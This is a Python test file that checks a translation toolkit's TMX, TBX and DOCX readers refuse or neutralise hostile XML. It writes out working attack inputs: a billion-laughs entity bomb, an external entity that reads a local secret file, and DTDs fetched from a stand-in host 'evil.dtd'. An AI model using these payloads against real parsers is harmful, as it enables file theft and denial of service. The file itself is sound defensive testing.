"""Hostile XML in every XML input (TMX, TBX, DOCX parts): refused or inert, never expanded.

Billion laughs, external entities (a local file) and network DTDs must not be resolved: the
reader either refuses the file with its own error or reads it with the entities left out. Real
files with DOCTYPEs (UTF-16 TMX, TBX ``martif``) are read.
"""

from __future__ import annotations

import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from toolkit.errors import ExchangeError, IngestError
from toolkit.exchange.tmx import read_tmx
from toolkit.glossary.tbx import read_tbx
from toolkit.ingest import read_document

SECRET = "TOP-SECRET-CONTENT-4711"

LAUGHS = (
    '<!DOCTYPE {root} [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + "]>"
)


def _tmx(doctype: str, de: str = "Wasserstoff", ja: str = "水素") -> str:
    return (
        f'<?xml version="1.0"?>\n{doctype}\n<tmx version="1.4"><header srclang="de"/><body>'
        f'<tu><tuv xml:lang="de"><seg>{de}</seg></tuv><tuv xml:lang="ja"><seg>{ja}</seg></tuv>'
        "</tu></body></tmx>"
    )


def _tbx(doctype: str, de: str = "Wasserstoff") -> str:
    return (
        f'<?xml version="1.0"?>\n{doctype}\n<martif type="TBX-Basic"><text><body>'
        f'<termEntry id="c1"><langSet xml:lang="de"><tig><term>{de}</term></tig></langSet>'
        '<langSet xml:lang="ja"><tig><term>水素</term></tig></langSet></termEntry>'
        "</body></text></martif>"
    )


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET, encoding="utf-8")
    return path


def _attacks(secret: Path, root: str) -> dict[str, tuple[str, str]]:
    """Return name -> (doctype, text that uses it) for each attack on an XML reader."""
    return {
        "billion-laughs": (LAUGHS.format(root=root), "&lol9;"),
        "external-file": (f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "{secret.as_uri()}">]>', "&x;"),
        "network-dtd": (
            f'<!DOCTYPE {root} SYSTEM "http://192.0.2.1/evil.dtd">',
            "Wasserstoff",
        ),
        "parameter-entity": (
            f'<!DOCTYPE {root} [<!ENTITY % p SYSTEM "http://192.0.2.1/p.dtd"> %p;]>',
            "Wasserstoff",
        ),
    }


def _read_all_text(read: Callable[[Path], object], path: Path) -> str:
    return repr(read(path))


@pytest.mark.parametrize(
    "attack", ["billion-laughs", "external-file", "network-dtd", "parameter-entity"]
)
def test_tmx_attacks_are_inert(tmp_path: Path, secret: Path, attack: str) -> None:
    doctype, text = _attacks(secret, "tmx")[attack]
    path = tmp_path / "attack.tmx"
    path.write_text(_tmx(doctype, de=text), encoding="utf-8")
    start = time.perf_counter()
    try:
        result = _read_all_text(read_tmx, path)
    except ExchangeError as exc:
        result = str(exc)
    assert time.perf_counter() - start < 5  # no network wait, no expansion
    assert SECRET not in result
    assert "lollollol" not in result


@pytest.mark.parametrize(
    "attack", ["billion-laughs", "external-file", "network-dtd", "parameter-entity"]
)
def test_tbx_attacks_are_inert(tmp_path: Path, secret: Path, attack: str) -> None:
    doctype, text = _attacks(secret, "martif")[attack]
    path = tmp_path / "attack.tbx"
    path.write_text(_tbx(doctype, de=text), encoding="utf-8")
    start = time.perf_counter()
    try:
        result = _read_all_text(read_tbx, path)
    except ExchangeError as exc:
        result = str(exc)
    assert time.perf_counter() - start < 5
    assert SECRET not in result
    assert "lollollol" not in result


def test_utf16_tmx_with_doctype_is_read(tmp_path: Path) -> None:
    path = tmp_path / "trados.tmx"
    text = _tmx('<!DOCTYPE tmx SYSTEM "tmx14.dtd">', de="Brennstoffzelle", ja="燃料電池")
    path.write_bytes(
        text.replace('version="1.0"?', 'version="1.0" encoding="UTF-16"?').encode("utf-16")
    )
    units, skipped = read_tmx(path)
    assert skipped == 0
    assert {(u.source, u.target) for u in units} == {
        ("Brennstoffzelle", "燃料電池"),
        ("燃料電池", "Brennstoffzelle"),
    }


def test_tbx_martif_doctype_is_read(tmp_path: Path) -> None:
    path = tmp_path / "termbase.tbx"
    path.write_text(_tbx('<!DOCTYPE martif SYSTEM "TBXcoreStructV02.dtd">'), encoding="utf-8")
    entries, skipped = read_tbx(path)
    assert skipped == 0
    assert [(e.de, e.ja) for e in entries] == [("Wasserstoff", "水素")]


def _docx_with_document_xml(path: Path, document_xml: str, sample_docx: Path) -> Path:
    """Copy `sample_docx` to `path` with its word/document.xml replaced."""
    with zipfile.ZipFile(sample_docx) as src, zipfile.ZipFile(path, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "word/document.xml":
                data = document_xml.encode("utf-8")
            dst.writestr(item, data)
    return path


@pytest.mark.parametrize("attack", ["billion-laughs", "external-file", "network-dtd"])
def test_docx_attacks_are_refused(
    tmp_path: Path, secret: Path, attack: str, plain_docx: Path
) -> None:
    doctype, text = _attacks(secret, "w:document")[attack]
    xml = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{doctype}'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body><w:p><w:r><w:t>Titel {text}</w:t></w:r></w:p></w:body></w:document>"
    )
    path = _docx_with_document_xml(tmp_path / "attack.docx", xml, plain_docx)
    try:
        doc = read_document(path)
        result = " ".join(s.source for s in doc.segments())
    except IngestError as exc:
        result = str(exc)
    assert SECRET not in result
    assert "lollollol" not in result


def test_docx_deep_nesting_is_refused(tmp_path: Path, plain_docx: Path) -> None:
    depth = 5000
    xml = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>Titel</w:t></w:r></w:p>"
        + "<w:tbl>" * depth
        + "</w:tbl>" * depth
        + "</w:body></w:document>"
    )
    path = _docx_with_document_xml(tmp_path / "deep.docx", xml, plain_docx)
    with pytest.raises(IngestError, match=r"deep\.docx"):
        read_document(path)


def test_docx_depth_limit_is_a_setting(plain_docx: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DEJAKIT_MAX_XML_DEPTH", "4")
    with pytest.raises(IngestError, match=r"deeper than 4 levels.*DEJAKIT_MAX_XML_DEPTH"):
        read_document(plain_docx)
    monkeypatch.setenv("DEJAKIT_MAX_XML_DEPTH", "64")
    assert read_document(plain_docx).title == "Wasserstoff aus Fukushima"


def test_docx_entities_limit_names_the_variable(
    tmp_path: Path, secret: Path, plain_docx: Path
) -> None:
    doctype, text = _attacks(secret, "w:document")["external-file"]
    xml = (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body><w:p><w:r><w:t>Titel {text}</w:t></w:r></w:p></w:body></w:document>"
    )
    path = _docx_with_document_xml(tmp_path / "attack.docx", xml, plain_docx)
    with pytest.raises(IngestError, match=r"declares 1 XML entities.*DEJAKIT_MAX_XML_ENTITIES"):
        read_document(path)
